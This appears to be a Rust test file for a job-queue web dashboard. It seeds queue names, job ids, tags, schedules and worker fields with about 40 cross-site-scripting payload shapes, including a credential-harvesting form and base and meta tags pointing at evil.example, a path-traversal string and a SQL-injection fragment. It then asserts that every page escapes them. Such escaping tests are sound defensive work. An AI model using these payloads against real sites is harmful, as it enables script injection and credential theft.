//! Texts that would be code if a page took them for markup: in every place where people can put text.

use std::time::Duration;

use asyncmq::backend::{MAX_BATCH, WorkerInfo};
use asyncmq::dashboard::Role;
use asyncmq::job::{Name, WorkerId};
use asyncmq::{Client, Flow, Limit, NewJob, Schedule, TaskError, Worker, task};
use serde_json::json;

use super::{As, Site, config, path};
use crate::support::until;

/// What would run, with `CODE` for what.
const SHAPES: [&str; 40] = [
    "<script>CODE</script>",
    "</script><script>CODE</script>",
    "<img src=x onerror=CODE>",
    "\"><img src=x onerror=CODE>",
    "'><svg onload=CODE>",
    "\" onmouseover=\"CODE\" x=\"",
    "' autofocus onfocus='CODE",
    "javascript:CODE",
    "data:text/html,<script>CODE</script>",
    "</title><script>CODE</script>",
    "</textarea><script>CODE</script>",
    "</pre><script>CODE</script>",
    "<!--<img src='--><img src=x onerror=CODE>'>",
    "{{CODE}}",
    "${CODE}",
    "<iframe srcdoc='<script>CODE</script>'>",
    "<a href=javascript:CODE>x</a>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=password>",
    "<style>*{background:url(//evil.example)}</style>",
    "<template><script>CODE</script></template>",
    "<math><mtext></p><script>CODE</script>",
    "&lt;script&gt;CODE&lt;/script&gt;",
    "&#60;script&#62;CODE&#60;/script&#62;",
    "%3Cscript%3ECODE%3C/script%3E",
    "\\u003cscript\\u003eCODE\\u003c/script\\u003e",
    "<scr<script>ipt>CODE</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<body onload=CODE>",
    "<input autofocus onfocus=CODE>",
    "<details open ontoggle=CODE>",
    "<video><source onerror=CODE>",
    "<object data=javascript:CODE>",
    "<embed src=javascript:CODE>",
    "<svg><animate onbegin=CODE attributeName=x>",
    "<dialog open id=help onclose=CODE>",
    "../../../etc/passwd?x=<script>CODE</script>",
    "a' OR '1'='1';--<script>CODE</script>",
];

/// What would run if it were taken for markup; each with a mark of its own.
pub(crate) fn texts() -> Vec<String> {
    let code = "window.__pwned=1";
    let dress = |shape: &str, number: usize| {
        let text = shape.replace("CODE", code);
        match number % 5 {
            0 => text,
            1 => format!("\u{202e}{text}"),
            2 => format!("{text}\u{2028}x"),
            3 => format!("&amp;{text}&"),
            _ => text.to_uppercase().replace("WINDOW.__PWNED", "window.__pwned"),
        }
    };
    (0..200).map(|number| format!("{number}{}", dress(SHAPES[number / 5], number))).collect()
}

#[task(queue = "hostile", name = "hostile.echo")]
async fn echo(text: String) -> String {
    text
}

#[task(queue = "hostile", name = "hostile.fail")]
async fn fail(ctx: asyncmq::Context, text: String) -> Result<(), TaskError> {
    ctx.log(text.clone());
    Err(TaskError::permanent(text))
}

/// A store in which these texts stand wherever a text can.
pub(crate) async fn stocked(client: &Client, texts: &[String]) {
    let worker = Worker::new(client).queues(["hostile"]).concurrency(50).start().await.unwrap();
    for (number, text) in texts.iter().enumerate() {
        let described = NewJob::new(text.as_str()).id(text.as_str()).tag(text.as_str()).header(text, text);
        client.queue(text.as_str()).add(described.args(json!({ text: [text] }))).await.unwrap();
        let args = json!({ "text": text });
        client
            .queue("hostile")
            .add(NewJob::new("hostile.echo").args(&args).id(format!("echo-{number}")))
            .await
            .unwrap();
        client
            .queue("hostile")
            .add(NewJob::new("hostile.fail").args(&args).id(format!("fail-{number}")))
            .await
            .unwrap();
        client.queue("hostile").add(NewJob::new("x").id(format!("wait-{number}"))).await.unwrap();
        client.queue("hostile").cancel_job(format!("wait-{number}")).await.unwrap();
        let job =
            NewJob::new(text.as_str()).args(json!({ text: [text] })).tag(text.as_str()).header(text, text);
        let hourly = Schedule::every(Duration::from_secs(3_600));
        client.queue(text.as_str()).upsert_schedule(text, hourly, job).await.unwrap();
        client
            .admin()
            .acting_as(text.as_str(), text.as_str())
            .pause_schedule(text, Some(text))
            .await
            .unwrap();
        client.admin().acting_as(text.as_str(), text.as_str()).run_schedule(text).await.unwrap();
        client.queue(text.as_str()).limit_task(text, Some(Limit::NONE.concurrency(1))).await.unwrap();
        enqueue_flow(client, text).await;
        let info = WorkerInfo {
            host: text.clone(),
            version: text.clone(),
            queues: vec![Name::queue(text).unwrap()],
            ..WorkerInfo::new(WorkerId::generate())
        };
        client.backend().register(&info, Duration::from_secs(30)).await.unwrap();
        client.admin().acting_as(text.as_str(), text.as_str()).set_paused(text, true).await.unwrap();
    }
    let hostile = client.queue("hostile");
    let all = texts.len() as u64;
    until("the ends", async || {
        let counts = hostile.counts().await.unwrap();
        counts.completed == all && counts.failed == all
    })
    .await;
    worker.stop().await.unwrap();
    assert!(texts.len() < MAX_BATCH);
}

async fn enqueue_flow(client: &Client, text: &str) {
    let mut flow = Flow::with_id(flow_of(text));
    let first = flow.add_named(NewJob::new(text).queue(text));
    flow.add_named(NewJob::new(text).queue(text).depends_on([&first]));
    flow.enqueue_on(client).await.unwrap();
}

/// A flow with a text in its id.
fn flow_of(text: &str) -> String {
    format!("{text}, a flow")
}

/// Checks that markup of a page is the page's own.
#[track_caller]
fn is_harmless(html: &str, text: &str, at: &str) {
    let is_markup = text.contains(['<', '"', '\'']);
    assert!(!is_markup || !html.contains(text), "{at}: {text} stands there as it is");
    assert_eq!(html.matches("<script").count(), 1, "{at}: scripts of its own only");
    for tag in
        ["<iframe", "<base", "<meta http-equiv", "<object", "<embed", "<style", "<img", "<template", "<math"]
    {
        assert!(!html.contains(tag), "{at}: {tag}");
    }
    let lower = html.to_lowercase();
    assert!(
        !lower.contains("href=\"javascript")
            && !lower.contains("href=\"data:")
            && !lower.contains("evil.example\"")
    );
    // No attribute listens for anything: every handler would stand within a tag of the page.
    for tag in html.split('<').skip(1).filter_map(|rest| rest.split_once('>')).map(|(tag, _)| tag) {
        let mut is_quoted = false;
        let plain: String = tag
            .chars()
            .filter(|c| {
                if *c == '"' {
                    is_quoted = !is_quoted;
                }
                !is_quoted
            })
            .collect();
        assert!(
            !plain.split_whitespace().any(|word| word.starts_with("on") && word.contains('=')),
            "{at}: <{tag}>"
        );
    }
}

/// Every page that shows what one of these texts stands in.
fn pages_of(number: usize, text: &str) -> Vec<String> {
    let (echo, fail) = (format!("echo-{number}"), format!("fail-{number}"));
    let mut pages = vec![
        path("/job", &[("queue", text), ("id", text)]),
        path("/job", &[("queue", "hostile"), ("id", &echo)]),
        path("/job", &[("queue", "hostile"), ("id", &fail)]),
        path("/queue", &[("name", &format!("{text}-none"))]),
        path("/worker", &[("id", text)]),
        path("/jobs", &[("state", text)]),
        path("/flow", &[("id", &flow_of(text))]),
        path("/flow", &[("id", text)]),
        path("/flows", &[("state", text), ("after", text)]),
        path("/jobs", &[("limit", text)]),
        path("/bulk", &[("order", text)]),
    ];
    // Those that look at all 200 queues.
    if number.is_multiple_of(5) {
        pages.extend([
            path("/queue", &[("name", text)]),
            path("/jobs", &[("queue", text), ("q", text)]),
            path("/events", &[("queue", text), ("kind", text), ("task", text)]),
            path("/audit", &[("actor", text), ("action", text)]),
            path("/flows", &[("queue", text)]),
            path("/job", &[("queue", text), ("id", &format!("{}.1", flow_of(text)))]),
            path("/schedule", &[("id", text)]),
            path("/schedule", &[("id", &format!("{text}-none"))]),
            path("/schedule/edit", &[("id", text)]),
            path("/schedules", &[("q", text), ("queue", text)]),
            path("/schedules", &[("status", text)]),
            path("/limits", &[("queue", text), ("task", text), ("key", text)]),
            path("/limits/edit", &[("queue", text), ("task", text)]),
            path("/queue/clear", &[("name", text), ("what", "drain")]),
            path("/bulk", &[("order", "cancel"), ("queue", text), ("id", text)]),
            path("/job", &[("id", &format!("{text}-none"))]),
            path("/", &[("done", text), ("span", text)]),
        ]);
    }
    pages
}

const LISTS: [&str; 15] = [
    "/",
    "/queues",
    "/jobs",
    "/jobs?limit=200",
    "/dead?limit=200",
    "/flows",
    "/limits",
    "/schedules?limit=200",
    "/schedules?status=paused&limit=200",
    "/workers",
    "/tasks",
    "/stats",
    "/events",
    "/audit",
    "/doctor",
];

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_people_write_is_taken_for_markup() {
    let (client, texts) = (Client::memory(), texts());
    let site = Site::of(&client, config());
    site.ready().await;
    stocked(&client, &texts).await;
    let admin = As::Program(Role::Admin);
    for page in LISTS {
        let got = site.get(page, &admin).await.is(200);
        texts.iter().for_each(|text| is_harmless(&got.text, text, page));
    }
    let mut read = 0;
    for (number, text) in texts.iter().enumerate() {
        for place in pages_of(number, text) {
            let got = site.get(&place, &admin).await;
            assert!(!got.status.is_server_error(), "{place}: {}", got.text);
            is_harmless(&got.text, text, &place);
            read += 1;
        }
        let login = site.get(&path("/login", &[("next", text)]), &As::Nobody).await.is(200).text;
        assert!(
            !login.contains("<script") && (!text.contains('<') || !login.contains(text.as_str())),
            "{text}"
        );
    }
    assert_eq!(read, 2_880);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_no_page_never_says_that_it_is_one() {
    let (client, texts) = (Client::memory(), texts());
    let site = Site::of(&client, config());
    let admin = As::Program(Role::Admin);
    for text in &texts {
        client.queue(text.as_str()).add(NewJob::new(text.as_str()).id(text.as_str())).await.unwrap();
        let params = [("queue", text.as_str()), ("id", text), ("q", "queue:1"), ("name", text)];
        for place in ["/api/job", "/api/queue", "/suggest", "/api/events"] {
            let got = site.get(&path(place, &params), &admin).await.is(200);
            assert_eq!(got.header("content-type"), "application/json", "{place}");
        }
    }
    let metrics = site.get("/metrics", &admin).await.is(200);
    assert!(metrics.header("content-type").starts_with("text/plain"));
}
